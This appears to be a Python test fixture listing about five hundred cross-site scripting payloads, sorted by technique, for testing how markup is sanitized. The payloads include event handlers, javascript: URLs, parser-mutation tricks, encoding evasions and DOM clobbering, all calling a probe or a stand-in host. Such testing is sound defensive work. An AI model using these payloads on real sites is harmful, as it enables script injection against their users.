"""What an upstream may send to have a reader's browser do its will: some five hundred pieces of mark-up, made for these tests.

One a line. `HIT` stands for a script that reports to the test's probe, `NUM` for the number it reports, `AWAY` for an address at
a host that nobody may ask; the pictures of control characters (␀, ␉, ␊) for the characters themselves.
"""

import base64
from dataclasses import dataclass
from itertools import count

AWAY = "https://probe.example/"
_CONTROLS = {0x2400 + code: code for code in range(32)} | {0x2421: 0x7F}


@dataclass(frozen=True, slots=True)
class Attack:
    """A piece of mark-up that calls `hit` with its number, or asks for AWAY and its number."""

    number: int
    kind: str
    spelling: str

    @property
    def markup(self) -> str:
        return written(self.spelling, self.number)


def written(spelling: str, number: int) -> str:
    """Return mark-up with its placeholders filled."""
    script = f"hit({number})"
    packed = base64.b64encode(f"<script>parent.{script}</script>".encode()).decode()
    filled = (
        spelling.replace("PACKED", packed)
        .replace("HIT", script)
        .replace("NUM", str(number))
        .replace("AWAY", f"{AWAY}{number}")
    )
    return filled.translate(_CONTROLS)


_HANDLERS = r"""
<img src=x onerror=HIT>
<IMG SRC=x oNeRrOr="HIT">
<img/src=x/onerror=HIT>
<img src="x"onerror="HIT">
<img␊src=x␊onerror␊=␊HIT>
<img␌src=x␌onerror␌=HIT>
<img src=x onerror␉=␉'HIT'>
<img src=x onerror=&#104;it(NUM)>
<img src=x onerror=&#x00068it&lpar;NUM&rpar;>
<img src=x onerror=hit`NUM`>
<img src=x onerror="window['h'+'it'](NUM)">
<img src=x onerror="\u0068it(NUM)">
<img src=x onerror="setTimeout('HIT')">
<img src=x onerror="[NUM].map(hit)">
<img src=x onerror="throw onerror=()=>HIT,0">
<img srcset="x 1x" onerror=HIT>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw onload=HIT>
<image src=x onerror=HIT>
<input type=image src=x onerror=HIT>
<svg onload=HIT>
<svg/onload=HIT//
<svg><script>HIT</script>
<body onload=HIT>
<body onpageshow="HIT">
<body onhashchange=HIT><a href=#x>石桥</a>
<body onresize=HIT>
<input autofocus onfocus=HIT>
<input onblur=HIT autofocus><input autofocus>
<select autofocus onfocus=HIT><option>桥</select>
<textarea autofocus onfocus=HIT></textarea>
<button autofocus onfocus=HIT>桥</button>
<a href=# autofocus onfocus=HIT>石桥</a>
<div tabindex=1 autofocus onfocusin=HIT>石桥</div>
<p contenteditable autofocus onfocus=HIT>石桥</p>
<keygen autofocus tabindex=0 onfocus=HIT>
<stone-bridge autofocus tabindex=0 onfocus=HIT>石桥</stone-bridge>
<details open ontoggle=HIT><summary>石桥</summary>修好了</details>
<details ontoggle="HIT"><summary>石桥</summary>修好了</details>
<dialog open onclose=HIT><form method=dialog><button>好</button></form></dialog>
<div popover id=pNUM onbeforetoggle=HIT>桥</div><button popovertarget=pNUM>看</button>
<button popovertarget=qNUM>看</button><div popover id=qNUM ontoggle=HIT>桥</div>
<audio src=x onerror=HIT></audio>
<video src=x onerror=HIT></video>
<video><source src=x onerror=HIT></video>
<audio><source onerror="HIT" src="x"></audio>
<video onloadstart=HIT><source src=x></video>
<video src=x><track default src=x onerror=HIT></video>
<object data=x onerror=HIT></object>
<embed src=x onload=HIT>
<iframe onload=HIT></iframe>
<iframe src=about:blank onload="HIT"></iframe>
<link rel=stylesheet href=x onerror=HIT>
<link rel=icon href=x onload=HIT onerror=HIT>
<script src=x onerror=HIT></script>
<style onload=HIT>p{}</style>
<frameset onload=HIT><frame src=about:blank></frameset>
<frameset><frame src=about:blank onload=HIT></frameset>
<marquee onstart=HIT>石桥</marquee>
<marquee loop=1 width=0 onfinish=HIT>石桥</marquee>
<p onclick=HIT>石桥</p>
<p onclick="HIT" onclick="x">石桥</p>
<b onmouseover=HIT>石桥</b>
<i onpointerenter=HIT>石桥</i>
<u onmousewheel=HIT onwheel=HIT>石桥</u>
<q oncopy=HIT>石桥</q>
<td><p onkeydown=HIT>石桥</p>
<h2 ondragstart=HIT draggable=true>石桥</h2>
<pre oncontextmenu=HIT>石桥</pre>
<li ondblclick=HIT>石桥
<table onmousedown=HIT><tr><td>石桥</table>
<table><tr><td onmouseup=HIT>石桥</table>
<table><caption onclick=HIT>石桥</caption></table>
<ruby ontouchstart=HIT>桥<rt>qiao</ruby>
<time onclick=HIT datetime=2021-01-01>元旦</time>
<form onsubmit=HIT action=#><button>好</button></form>
<form><input onchange=HIT oninput=HIT></form>
<form onreset=HIT><input type=reset></form>
<label for=kNUM onclick=HIT>桥</label><input id=kNUM>
<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=HIT>石桥</p>
<p style="transition:color 1ms" ontransitionrun=HIT onanimationend=HIT>石桥</p>
<div hidden=until-found onbeforematch=HIT>石桥</div>
<p onscroll=HIT style="overflow:scroll;height:9px">石<br>桥<br>村</p>
<slot onslotchange=HIT>石桥</slot>
<canvas onclick=HIT>石桥</canvas>
<meter onclick=HIT>桥</meter>
<portal src=x onload=HIT></portal>
<fencedframe onclick=HIT>桥</fencedframe>
<isindex type=image src=x onerror=HIT>
<bgsound src=x onpropertychange=HIT>
<applet onerror=HIT code=x>桥</applet>
<map name=m><area shape=default onclick=HIT href=#></map>
<p on=HIT onx=HIT onclick.=HIT onclick=HIT>石桥</p>
"""

_ADDRESSES = r"""
<a href="javascript:HIT">石桥</a>
<a href='JaVaScRiPt:HIT'>石桥</a>
<a href=javascript:HIT>石桥</a>
<a href=" javascript:HIT">石桥</a>
<a href="␁javascript:HIT">石桥</a>
<a href="␟␞javascript:HIT">石桥</a>
<a href="&#1;javascript:HIT">石桥</a>
<a href="&#x1f;&#32;javascript:HIT">石桥</a>
<a href="java␉script:HIT">石桥</a>
<a href="java␊script:HIT">石桥</a>
<a href="java␍script:HIT">石桥</a>
<a href="java&Tab;script:HIT">石桥</a>
<a href="java&NewLine;script:HIT">石桥</a>
<a href="java&#13;&#10;&#9;script:HIT">石桥</a>
<a href="javascript&colon;HIT">石桥</a>
<a href="javascript&#58;HIT">石桥</a>
<a href="javascript&#x3a;HIT">石桥</a>
<a href="javascript&#0058HIT">石桥</a>
<a href="javascript␊:HIT">石桥</a>
<a href="j␉a␉v␉a␉s␉c␉r␉i␉p␉t␉:␉HIT">石桥</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;HIT">石桥</a>
<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58 HIT">石桥</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A HIT">石桥</a>
<a href="&#0000106;avascript:HIT">石桥</a>
<a href="&#X6a;avascript:HIT">石桥</a>
<a href="javascript:%68it(NUM)">石桥</a>
<a href="javascript://%0aHIT">石桥</a>
<a href="javascript://probe.example/%0DHIT">石桥</a>
<a href="javascript:/*https://news.example/*/HIT">石桥</a>
<a href="javascript:void(0);HIT">石桥</a>
<a href="javascript:443/HIT">石桥</a>
<a href="javascript:443?HIT:0">石桥</a>
<a href="java␀script:HIT">石桥</a>
<a href="javascript&#0;:HIT">石桥</a>
<a href="&nbsp;javascript:HIT">石桥</a>
<a href="&ZeroWidthSpace;javascript:HIT">石桥</a>
<a href="java&shy;script:HIT">石桥</a>
<a href="ｊavascript:HIT">石桥</a>
<a href="javaſcript:HIT">石桥</a>
<a href="#" href="javascript:HIT">石桥</a>
<a href="javascript:HIT" href="#">石桥</a>
<a href="vbscript:HIT">石桥</a>
<a href="livescript:HIT">石桥</a>
<a href="mocha:HIT">石桥</a>
<a href="feed:javascript:HIT">石桥</a>
<a href="view-source:javascript:HIT">石桥</a>
<a href="jar:javascript:HIT!/">石桥</a>
<a href="data:text/html,<script>opener.HIT</script>" target=_blank>石桥</a>
<a href="data:text/html;base64,PACKED">石桥</a>
<a href="blob:null/HIT">石桥</a>
<a href="filesystem:http://news.example/temporary/HIT">石桥</a>
<a href="javascript:HIT" target=_self rel=opener download=x>石桥</a>
<a xlink:href="javascript:HIT" href="#">石桥</a>
<svg><a xlink:href="javascript:HIT"><text y=9>石桥</text></a></svg>
<svg><a href="java&Tab;script:HIT"><rect width=9 height=9 /></a></svg>
<svg><a><set attributeName=href to=javascript:HIT /><text y=9>石桥</text></a></svg>
<svg><a><animate attributeName=xlink:href values=javascript:HIT begin=0s /><text y=9>石桥</text></a></svg>
<math href="javascript:HIT"><mtext>石桥</mtext></math>
<math><maction actiontype="statusline#x" xlink:href="javascript:HIT">石桥</maction></math>
<map name=n><area shape=default href="javascript:HIT"></map><img usemap=#n src=x>
<form action="javascript:HIT"><button>好</button></form>
<form><button formaction="javascript:HIT">好</button></form>
<form id=fNUM></form><button form=fNUM formaction=javascript:HIT>好</button>
<form><input type=submit formaction="java&#10;script:HIT"></form>
<form><input type=image src=x formaction="javascript:HIT"></form>
<form action="data:text/html;base64,PACKED" target=_self><button>好</button></form>
<isindex action="javascript:HIT" type=submit>
<iframe src="javascript:parent.HIT"></iframe>
<iframe src="&#x20;java&#x9;script:parent.HIT"></iframe>
<iframe src="data:text/html;base64,PACKED"></iframe>
<iframe src="data:text/html,<script>hit(NUM)</script>"></iframe>
<iframe srcdoc="<script>parent.HIT</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.HIT&gt;"></iframe>
<iframe srcdoc='&#60;svg onload&#61;parent.HIT&#62;'></iframe>
<frameset><frame src="javascript:parent.HIT"></frameset>
<object data="javascript:parent.HIT"></object>
<object data="data:text/html;base64,PACKED"></object>
<object data="data:text/html,<script>hit(NUM)</script>" type=text/html></object>
<embed src="data:text/html,<script>hit(NUM)</script>" type=text/html>
<embed src="javascript:HIT">
<object type=text/html><param name=src value="javascript:HIT"></object>
<base href="javascript:HIT//"><a href="#">石桥</a>
<base href="javascript:/"><a href="HIT">石桥</a>
<meta http-equiv=refresh content="0;url=javascript:HIT">
<meta http-equiv=refresh content="0;url=data:text/html;base64,PACKED">
<link rel=import href="data:text/html,<script>HIT</script>">
<link rel=stylesheet href="javascript:HIT">
<img src="javascript:HIT">
<img src=x lowsrc="javascript:HIT" dynsrc="javascript:HIT">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'/>">
<video poster="javascript:HIT"></video>
<video src="data:text/html,<script>HIT</script>"></video>
<table background="javascript:HIT"><tr><td background="javascript:HIT">石桥</table>
<blockquote cite="javascript:HIT">石桥</blockquote>
<q cite="javascript:HIT">石桥</q>
<ins cite="javascript:HIT">石桥</ins>
<script src="data:text/javascript,HIT"></script>
<script src="data:,HIT"></script>
"""

_FOREIGN = r"""
<svg><image href=x onerror=HIT />
<svg><g onload=HIT></g></svg>
<svg><animate onbegin=HIT attributeName=x dur=1s>
<svg><set onbegin=HIT attributeName=x to=1 />
<svg><animateTransform onbegin=HIT attributeName=transform>
<svg><animate xlink:href=#aNUM attributeName=href values=javascript:HIT /><a id=aNUM><text y=9>石桥</text></a></svg>
<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.HIT</script>"></iframe></foreignObject></svg>
<svg><desc><img src=x onerror=HIT></desc></svg>
<svg><title><img src=x onerror=HIT></title></svg>
<svg><style><img src=x onerror=HIT></style></svg>
<svg><style>&lt;img src=x onerror=HIT&gt;</style></svg>
<svg><textarea><img src=x onerror=HIT></textarea></svg>
<svg><noscript><img src=x onerror=HIT></noscript></svg>
<svg><xmp><img src=x onerror=HIT></xmp></svg>
<svg><![CDATA[<img src=x onerror=HIT>]]></svg>
<svg><![CDATA[]]><img src=x onerror=HIT>]]></svg>
<svg><script>&#104;it(NUM)</script></svg>
<svg><script>hi&#116;(NUM)</script>
<svg><script><![CDATA[HIT]]></script></svg>
<svg><script href="data:text/javascript,HIT" /></svg>
<svg><script xlink:href="data:,HIT"></script></svg>
<svg><a><p><img src=x onerror=HIT></a></svg>
<svg></p><img src=x onerror=HIT>
<svg><p><img src=x onerror=HIT></p></svg>
<svg><b><style><!--</style><img src=x onerror=HIT>--></style></b>
<svg><use href="data:image/svg+xml,<svg id='u' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='HIT'/></svg>#u" />
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>HIT</handler></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="HIT" />
<svg:svg onload=HIT><svg:script>HIT</svg:script></svg:svg>
<svg><feImage href=x onload=HIT onerror=HIT /></svg>
<svg><discard onbegin=HIT /></svg>
<svg><view onclick=HIT /><circle r=9 onclick=HIT /></svg>
<svg><text onclick=HIT y=9>石桥</text></svg>
<math><mtext><img src=x onerror=HIT></mtext></math>
<math><mi><svg onload=HIT></mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=HIT></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg><style><img src=x onerror=HIT></style></svg></annotation-xml></math>
<math><annotation-xml><foreignObject><img src=x onerror=HIT>
<math><style><img src=x onerror=HIT></style></math>
<math><mglyph><style><img src=x onerror=HIT>
<math><mtext><mglyph><style><!--</style><img src=x onerror=HIT>--></style></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=HIT>"></style></h1>
<math><mi//xlink:href="data:x,<img src=x onerror=HIT>">
<math><mtext><option><annotation-xml><style><img src=x onerror=HIT>
<math onclick=HIT><mn>1</mn></math>
<math><mo><script>HIT</script></mo></math>
<math><br><img src=x onerror=HIT></math>
<math><font color=x><img src=x onerror=HIT></math>
"""

_MUTATING = r"""
<noscript><p title="</noscript><img src=x onerror=HIT>"></noscript>
<noscript><style></noscript><img src=x onerror=HIT></style></noscript>
<noscript><!--</noscript><img src=x onerror=HIT>--></noscript>
<p title="</p><img src=x onerror=HIT>"><noscript></p><img src=x onerror=HIT></noscript>
<style><p title="</style><img src=x onerror=HIT>"></style>
<style></style ><img src=x onerror=HIT></style>
<style><!--</style><img src=x onerror=HIT>--></style>
<title><p title="</title><img src=x onerror=HIT>"></title>
<title></title/><img src=x onerror=HIT></title>
<textarea><p title="</textarea><img src=x onerror=HIT>"></textarea>
<textarea></TEXTAREA x><img src=x onerror=HIT></textarea>
<xmp><p title="</xmp><img src=x onerror=HIT>"></xmp>
<xmp></xmp><img src=x onerror=HIT>
<noembed><p title="</noembed><img src=x onerror=HIT>"></noembed>
<noframes><p title="</noframes><img src=x onerror=HIT>"></noframes>
<iframe><p title="</iframe><img src=x onerror=HIT>"></iframe>
<plaintext></plaintext><img src=x onerror=HIT>
<p><svg><plaintext><img src=x onerror=HIT></plaintext></svg>
<script><!--<script></script><img src=x onerror=HIT>--></script>
<script>"</script><img src=x onerror=HIT>"</script>
<template><img src=x onerror=HIT></template>
<template><script>HIT</script></template><img src=x onerror=HIT>
<div><template shadowrootmode=open><img src=x onerror=HIT></template></div>
<div><template shadowrootmode=closed><script>HIT</script></template></div>
<template><style></template><img src=x onerror=HIT></style></template>
<select><template><img src=x onerror=HIT></template></select>
<select><option><style></option></select><img src=x onerror=HIT></style>
<select><iframe></select><img src=x onerror=HIT>
<select><script>HIT</script></select>
<form><div></form><form><img src=x onerror=HIT></form></div>
<form id=outer><div></form><form id=inner><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=HIT>">
<table><form><tr><td></form><img src=x onerror=HIT></table>
<table><img src=x onerror=HIT><tr><td>石桥</table>
<table><td><svg><desc><td><img src=x onerror=HIT></table>
<table><style><!--</style><tr><img title="--><img src=x onerror=HIT>"></table>
<table><colgroup><style><img src=x onerror=HIT></style><script>HIT</script></colgroup></table>
<table><math><select><mglyph><style><img src=x onerror=HIT></table>
<table><caption><svg></caption><img src=x onerror=HIT></table>
<a><table><a><img src=x onerror=HIT></table></a></a>
<b><p><i></b><svg><p><img src=x onerror=HIT></i></p>
<p><a><b><div></a><img src=x onerror=HIT></b></div>
<h1><p><h2></h1><img src=x onerror=HIT></p></h2>
<button><p></button><img src=x onerror=HIT></p>
<li><svg><li><style><img src=x onerror=HIT></li>
<svg></svg><svg><br><style><img src=x onerror=HIT></style>
<ruby><svg><rt><style><img src=x onerror=HIT></style></ruby>
<object><p title="</object><img src=x onerror=HIT>"></object>
<img title="`><img src=x onerror=HIT>`">
<img alt="``onerror=HIT" src=x>
<listing>&lt;img src=x onerror=HIT&gt;</listing>
<pre>␊<img src=x onerror=HIT>␊</pre>
<listing>␊␊<p title="</listing><img src=x onerror=HIT>"></listing>
<p>&lt;img src=x onerror=HIT&gt;</p><img src=x onerror=HIT>
<div title="&lt;/div&gt;&lt;img src=x onerror=HIT&gt;"></div><img src=x onerror=HIT>
<a title="&quot;&gt;&lt;img src=x onerror=HIT&gt;" onclick=HIT>石桥</a>
<a title='&apos;&#34;&#62;&#60;svg/onload=HIT&#62;' onclick=HIT>石桥</a>
<audio><video><audio><style></video><img src=x onerror=HIT></style></audio>
<details><summary><style></summary><img src=x onerror=HIT></style></details>
<frameset></frameset><noframes><img src=x onerror=HIT></noframes>
<html><head><script>HIT</script></head><body><p>石桥</body></html>
</body></html><img src=x onerror=HIT>
</div></div></div></article></main><img src=x onerror=HIT>
<head><title></head><img src=x onerror=HIT></title>
<body><body onload=HIT><body onclick=HIT>
<article></main></body><script>HIT</script><article>
"""

_BROKEN = r"""
<script>HIT</script>
<SCRIPT>HIT</SCRIPT >
<scr<script>ipt>HIT</script>
<script/x>HIT</script/x>
<script␊>HIT</script␊>
<script x=">">HIT</script>
<script x='>' type="text/javascript">HIT//</script
<script type=module>HIT</script>
<script type="text/javascript;version=1.8">HIT</script>
<script language=vbscript>HIT</script>
<script defer>HIT
<script async src="data:text/javascript,HIT"></script>
<script nomodule>HIT</script>
<script>/*<!--*/HIT//--></script>
<script>HIT</script foo="bar">
<script␀>HIT</script>
<sc␀ript>HIT</sc␀ript>
<script␌>HIT</script>
<<script>HIT//<</script>
<<img src=x onerror=HIT>
<img src=x onerror=HIT<p>
<img src=x onerror="HIT"<p>石桥</p>
<img src="x` `<script>HIT</script>"` `>
<img src=`x` onerror=HIT>
<img src='x" onerror='HIT'>
<img src="x' onerror="HIT">
<img src=x"onerror=HIT onerror=HIT>
<img ""><script>HIT</script>">
<img src=x" onerror="HIT">
<img ="x" src=x onerror=HIT>
<img = src=x onerror=HIT>
<img x=y=z src=x onerror=HIT>
<img <!-- --> src=x onerror=HIT>
<img src=x onerror=HIT onerror="x">
<img title="a" title="b" src=x onerror=HIT>
<img ␀src=x on␀error=HIT onerror=HIT>
<img src=x o␀nerror=HIT>
<img src=x onerror=HIT␀>
<img␠src=x onerror=HIT>
<img　src=x onerror=HIT>
<img src=x onerror=HIT >
<img src=x ␋onerror=HIT onerror=HIT>
<img src=x ／onerror=HIT onerror=HIT>
</p title="<img src=x onerror=HIT>"><img src=x onerror=HIT>
</ <img src=x onerror=HIT>>
</><img src=x onerror=HIT>
</br/><img src=x onerror=HIT>
<!--><img src=x onerror=HIT>-->
<!---><img src=x onerror=HIT>-->
<!-- --!><img src=x onerror=HIT>-->
<!-- -- ><img src=x onerror=HIT>--><img src=x onerror=HIT>
<!--<!--><img src=x onerror=HIT>-->
<!-- <p --><img src=x onerror=HIT>-->
<!-><img src=x onerror=HIT>
<!x "><img src=x onerror=HIT>">
<!DOCTYPE x [<!ENTITY e "<img src=x onerror=HIT>">]>&e;
<!DOCTYPE html "><img src=x onerror=HIT>">
<![CDATA[<img src=x onerror=HIT>]]>
<![CDATA[><img src=x onerror=HIT>
<!--[if gte IE 4]><script>HIT</script><![endif]-->
<![if true]><img src=x onerror=HIT><![endif]>
<?xml version="1.0"?><img src=x onerror=HIT>
<?php echo '<img src=x onerror=HIT>' ?>
<?x ><img src=x onerror=HIT> ?>
<?import namespace="t" implementation="AWAY"><t:x onclick=HIT>石桥</t:x>
<%<img src=x onerror=HIT>%>
<$<img src=x onerror=HIT>
<1<img src=x onerror=HIT>
<a<img src=x onerror=HIT>
<a href="x"/onclick=HIT>石桥</a>
<a href=x onclick=HIT title='>石桥</a>
<p title='"><img src=x onerror=HIT>' x="'"><img src=x onerror=HIT>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">HIT</x:script>
<html xmlns:t="urn:t"><t:script>HIT</t:script><img src=x onerror=HIT>
<o:p onclick=HIT>石桥</o:p>
<p xml:lang="x" xmlns="http://www.w3.org/2000/svg" onclick=HIT>石桥</p>
<a:b:c onclick=HIT>石桥</a:b:c>
<é onclick=HIT tabindex=0>石桥
<img src=x onerror=HIT/><img/>
<svg/onload="HIT"/><br/>
&lt;img src=x onerror=HIT&gt;
&amp;lt;img src=x onerror=HIT&amp;gt;
&#60img src=x onerror=HIT&#62
&#x3cscript&#x3eHIT&#x3c/script&#x3e
&LT;img src=x onerror=HIT&GT;
%3Cimg%20src=x%20onerror=HIT%3E
\x3cimg src=x onerror=HIT\x3e
＜img src=x onerror=HIT＞
‹img src=x onerror=HIT›
+ADw-img src=x onerror=HIT+AD4-
+ADw-script+AD4-HIT+ADw-/script+AD4-
<meta charset=utf-7>+ADw-script+AD4-HIT+ADw-/script+AD4-
<meta http-equiv=Content-Type content="text/html; charset=utf-7"><p>+ADw-img src=x onerror=HIT+AD4-
<meta charset=iso-2022-jp><img alt="␛$B" title="␛(B" src=x onerror=HIT>
¼script¾HIT¼/script¾
<p title="␛(J\"><img src=x onerror=HIT>">石桥</p>
<p title="\"><img src=x onerror=HIT>">石桥</p>
<a name="</a><img src=x onerror=HIT>" onclick=HIT>石桥</a>
"""

_LOADING = r"""
<img src=AWAY>
<img src="//probe.example/NUM">
<img src="\\probe.example\NUM">
<img src="https:probe.example/NUM">
<img src="/\probe.example/NUM">
<img src=x srcset="AWAY 1x, AWAY?2 2x">
<img src=x srcset="AWAY 4000w" sizes=100vw>
<picture><source srcset=AWAY><img src=x></picture>
<picture><source media="(min-width:1px)" srcset="AWAY"><img></picture>
<img data-src=AWAY src=x>
<image src=AWAY>
<input type=image src=AWAY>
<video poster=AWAY></video>
<video src=AWAY autoplay preload=auto></video>
<video controls><source src=AWAY></video>
<audio src=AWAY autoplay></audio>
<audio><source src=AWAY></audio>
<video src=x crossorigin><track default kind=subtitles src=AWAY></video>
<iframe src=AWAY></iframe>
<iframe srcdoc="<img src=AWAY>"></iframe>
<iframe srcdoc="<meta http-equiv=refresh content='0;url=AWAY'>"></iframe>
<frameset><frame src=AWAY></frameset>
<embed src=AWAY>
<object data=AWAY></object>
<object data="AWAY.svg" type=image/svg+xml>石桥</object>
<applet code=x codebase=AWAY archive=AWAY></applet>
<script src=AWAY></script>
<script src=AWAY type=module></script>
<link rel=stylesheet href=AWAY>
<link rel="alternate stylesheet" href=AWAY title=x>
<link rel=preload as=image href=AWAY>
<link rel=modulepreload href=AWAY>
<link rel=prefetch href=AWAY>
<link rel=icon href=AWAY>
<link rel=manifest href=AWAY>
<style>@import "AWAY";</style>
<style>@import url(AWAY);</style>
<style>p{background:url(AWAY)}</style><p>石桥</p>
<style>@font-face{font-family:f;src:url(AWAY)}p{font-family:f}</style><p>石桥</p>
<p style="background:url(AWAY)">石桥</p>
<p style="background-image:image-set('AWAY' 1x)">石桥</p>
<p style="background:\75rl(AWAY)">石桥</p>
<p style="list-style:url(AWAY);display:list-item">石桥</p>
<p style="content:url(AWAY)">石桥</p>
<p style="border-image:url(AWAY) 1;border-style:solid">石桥</p>
<p style="mask-image:url(AWAY)">石桥</p>
<p style="shape-outside:url(AWAY);float:left">石桥</p>
<p style="width:expression(HIT)">石桥</p>
<p style="-moz-binding:url(AWAY#x);behavior:url(AWAY)">石桥</p>
<p style="position:fixed;inset:0;z-index:9;background:url('AWAY')">石桥</p>
<ul style="list-style-image:url(AWAY)"><li>石桥</ul>
<font style="background:url(AWAY)" color=red>石桥</font>
<table background=AWAY><tr><td>石桥</table>
<table><tr><td background=AWAY>石桥</table>
<body background=AWAY>
<base href=https://probe.example/><img src=NUM>
<base href="//probe.example/"><img src="NUM">
<base target=_top href=https://probe.example/><img src=NUM>
<meta http-equiv=refresh content="0;url=AWAY">
<meta http-equiv="refresh" content="0, AWAY">
<META HTTP-EQUIV="&#114;efresh" CONTENT="0; URL='AWAY'">
<meta http-equiv=Content-Security-Policy content="default-src *; report-uri AWAY"><img src=AWAY>
<meta http-equiv=Link content="<AWAY>; rel=stylesheet"><img src=AWAY>
<svg><image href=AWAY width=9 height=9 /></svg>
<svg><image xlink:href=AWAY width=9 height=9 /></svg>
<svg><style>@import url(AWAY);</style></svg>
<svg><filter id=v><feImage href=AWAY /></filter><rect filter=url(#v) width=9 height=9 /></svg>
<svg><rect fill="url(AWAY#x)" width=9 height=9 /></svg>
<svg><use href="AWAY#x" /></svg>
<svg><script href=AWAY></script></svg>
<svg><foreignObject><img src=AWAY></foreignObject></svg>
<math><mtext><img src=AWAY></mtext></math>
<form action=AWAY><button>好</button></form>
<form action=AWAY target=_self><input autofocus><button>好</button></form>
<form><button formaction=AWAY>好</button></form>
<a href="#" ping=AWAY>石桥</a>
<portal src=AWAY></portal>
<fencedframe src=AWAY></fencedframe>
<bgsound src=AWAY>
<xml src=AWAY></xml>
<div><template shadowrootmode=open><img src=AWAY></template></div>
<noscript><img src=AWAY></noscript>
<button style="cursor:url(AWAY),auto" autofocus>好</button>
<blink style="background:url(AWAY)">石桥</blink>
<canvas style="background:url(AWAY)"></canvas>
<marquee background=AWAY style="background:url(AWAY)">石桥</marquee>
"""

_CLOBBERING = r"""
<form id=body name=body><input name=innerHTML><input name=parentNode></form><img src=x onerror=HIT>
<form name=document><input name=cookie></form><img src=x onerror=HIT>
<img name=getElementById><img src=x onerror=HIT>
<img name=currentScript src=x onerror=HIT>
<a id=hit href=javascript:HIT>石桥</a>
<a id=location href="javascript:HIT">石桥</a>
<a id=config></a><a id=config name=url href="javascript:HIT">石桥</a>
<iframe name=location srcdoc="<script>parent.HIT</script>"></iframe>
<object id=history data="data:text/html,<script>hit(NUM)</script>"></object>
<embed name=navigator src=x onload=HIT>
<form id=attributes onclick=HIT><input name=attributes><input name=nodeName><input name=removeChild>桥</form>
<form><input name=firstChild onfocus=HIT autofocus><input name=childNodes></form>
<output id=top onclick=HIT>桥</output>
<p id=content class=content onclick=HIT>石桥</p>
<p is="stone-bridge" part=x slot=y exportparts=z onclick=HIT>石桥</p>
<div inert popover=manual accesskey=x onclick=HIT contenteditable>石桥</div>
<a target=_parent href=javascript:HIT>石桥</a>
<a itemprop=url itemscope itemid=javascript:HIT onclick=HIT href=#>石桥</a>
"""

_KINDS = {
    "event handlers": _HANDLERS,
    "addresses that run": _ADDRESSES,
    "foreign mark-up": _FOREIGN,
    "mark-up that changes when it is written and read again": _MUTATING,
    "broken syntax": _BROKEN,
    "what loads": _LOADING,
    "names that shadow": _CLOBBERING,
}
_numbers = count(101)
ATTACKS = tuple(
    Attack(next(_numbers), kind, line)
    for kind, lines in _KINDS.items()
    for line in lines.splitlines()
    if line
)
# What stands where a page has text: a headline, a byline, a caption, a tag.
TEXTS = (
    "<img src=x onerror=HIT>",
    "<script>HIT</script>",
    "<b onclick=HIT>石桥</b>",
    '"><img src=x onerror=HIT>',
    "'><svg onload=HIT>",
    '" onfocus=HIT autofocus x="',
    "' onmouseover=HIT x='",
    "</title><script>HIT</script>",
    "</h1></header><img src=x onerror=HIT>",
    "--><img src=x onerror=HIT>",
    "]]><img src=x onerror=HIT>",
    "]]></content:encoded><script>HIT</script>",
    "&lt;img src=x onerror=HIT&gt;",
    "&amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;",
    "javascript:HIT",
    "{{HIT}} {% x %} ${HIT} #{HIT}",
    "`<img src=x onerror=HIT>`",
    "[石桥](javascript:HIT)",
    "![石桥](AWAY)",
    "<https://probe.example/NUM>",
)
